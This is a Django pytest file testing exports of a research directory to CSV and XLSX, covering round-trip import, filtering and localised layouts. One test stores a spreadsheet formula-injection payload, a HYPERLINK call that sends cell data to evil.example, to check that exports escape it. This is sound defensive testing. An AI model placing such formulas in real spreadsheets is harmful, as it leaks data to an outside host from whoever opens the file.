"""Exports of the filtered directory, and their round trip through the import."""
from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from passerelle.directory.models import Organisation, Person
from tests.directory.import_files import commit, upload_and_map
from tests.factories import OrganisationFactory, PersonFactory

pytestmark = pytest.mark.django_db


def snapshot(person: Person) -> tuple:
    return (
        person.first_name, person.last_name, person.email, person.kind, person.territory, person.orcid,
        person.expertise, person.keywords, person.offers, person.seeks, person.visibility,
        person.consent_date, sorted(a.organisation.name for a in person.affiliations.all()),
        sorted((t.category.code, t.percentage) for t in person.category_tags.all()),
        sorted((t.site.icrp_code, t.percentage) for t in person.site_tags.all()),
        sorted(t.code for t in person.techniques.all()), sorted(lang.code for lang in person.languages.all()),
    )


@pytest.fixture
def people(db):
    clb = OrganisationFactory(name="Centre Léon Bérard", acronym="CLB")
    chum = OrganisationFactory(name="CHUM", territory="QC")
    PersonFactory(first_name="Étienne", last_name="Aubert", organisation=clb, categories=["5.2"], sites=[6],
                  techniques=["radiotherapy", "mri"], languages=["fr"], orcid="0000-0002-1825-0097",
                  keywords="flash; proton", offers="Accès au synchrotron\nCohorte", seeks="Statisticien",
                  consent_date="2024-02-01")
    PersonFactory(first_name="Louise", last_name="Bouchard", territory="QC", kind="clinician", organisation=chum,
                  categories=["5.3"], sites=[7], languages=["fr", "en"], visibility="members")
    PersonFactory(first_name="Zoé", last_name="Hors-filtre", territory="QC")
    return {"clb": clb, "chum": chum}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_filtered_export_re_imports_into_an_empty_directory(coordinator_client, people, fmt):
    exported = coordinator_client.get(reverse("directory:people_export", args=[fmt]), {"category": "5"})
    before = sorted(snapshot(p) for p in Person.objects.exclude(last_name="Hors-filtre"))
    Person.objects.all().delete()

    batch = upload_and_map(coordinator_client, f"passerelle-people.{fmt}", exported.content)
    commit(coordinator_client, batch)

    assert len(before) == 2
    assert sorted(snapshot(p) for p in Person.objects.all()) == before


def test_export_holds_only_the_filtered_people(member_client, people):
    response = member_client.get(reverse("directory:people_export", args=["xlsx"]), {"territory": "QC", "q": "CHUM"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Bouchard"]
    assert response["Content-Disposition"] == 'attachment; filename="passerelle-people.xlsx"'


def test_organisations_export_round_trip(coordinator_client, people):
    OrganisationFactory(name="Unité de Lyon", parent=people["clb"], ror_id="03yrm5c26")
    exported = coordinator_client.get(reverse("directory:organisations_export", args=["csv"]))
    before = sorted((o.name, o.kind, o.territory, o.city, o.ror_id, o.parent.name if o.parent else "")
                    for o in Organisation.objects.all())
    Organisation.objects.all().delete()

    batch = upload_and_map(coordinator_client, "orgs.csv", exported.content, kind="organisations")
    commit(coordinator_client, batch)

    assert sorted((o.name, o.kind, o.territory, o.city, o.ror_id, o.parent.name if o.parent else "")
                  for o in Organisation.objects.all()) == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_name_that_looks_like_a_formula_is_escaped_and_reads_back_as_typed(coordinator_client, fmt):
    names = ('=HYPERLINK("http://evil.example/?x="&A1,"Xq2")', "-Dupont", "'@Quote")
    PersonFactory(first_name=names[0], last_name=names[1], keywords=names[2], orcid="")
    exported = coordinator_client.get(reverse("directory:people_export", args=[fmt]))
    if fmt == "csv":
        assert exported.content.decode("utf-8-sig").splitlines()[1].startswith(
            '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Xq2"")",\'-Dupont,')
    Person.objects.all().delete()

    batch = upload_and_map(coordinator_client, f"passerelle-people.{fmt}", exported.content)
    commit(coordinator_client, batch)

    person = Person.objects.get()
    assert (person.first_name, person.last_name, person.keywords) == names


def test_the_reading_layout_speaks_the_users_language(coordinator_client, people):
    response = coordinator_client.get(reverse("directory:people_export", args=["xlsx"]),
                                      {"layout": "reading", "territory": "QC", "q": "CHUM"},
                                      HTTP_ACCEPT_LANGUAGE="fr")
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    header = dict(zip(rows[0], rows[1], strict=True))
    assert rows[0][:5] == ("Prénom", "Nom", "Adresse e-mail", "Type d'acteur", "Territoire")
    assert header["Type d'acteur"] == "Clinicien" and header["Territoire"] == "Québec"
    assert header["Visibilité"] == "Membres uniquement"
    assert "first_name" not in rows[0] and "clinician" not in rows[1]


def test_the_reading_layout_of_organisations_and_the_import_layout_by_default(coordinator_client, people):
    reading = coordinator_client.get(reverse("directory:organisations_export", args=["csv"]), {"layout": "reading"},
                                     HTTP_ACCEPT_LANGUAGE="en")
    assert reading.content.decode("utf-8-sig").splitlines()[0].startswith("Name,Acronym,Kind")
    default = coordinator_client.get(reverse("directory:organisations_export", args=["csv"]), {"layout": "other"})
    assert default.content.decode("utf-8-sig").splitlines()[0].startswith("name,acronym,kind")


def test_the_list_offers_both_layouts(client, people):
    page = client.get(reverse("directory:people")).content.decode()
    assert "export.xlsx?layout=reading" in page and 'export.csv"' in page
